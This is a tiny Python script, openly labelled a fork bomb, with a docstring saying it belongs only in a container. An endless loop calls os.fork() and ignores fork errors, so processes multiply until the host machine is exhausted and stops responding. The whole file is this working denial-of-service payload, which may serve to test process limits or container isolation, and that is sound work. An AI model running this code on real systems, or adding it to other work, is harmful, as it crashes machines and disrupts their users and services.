# SPDX-License-Identifier: MIT
"""A fork bomb. It is run in a container, or not at all."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
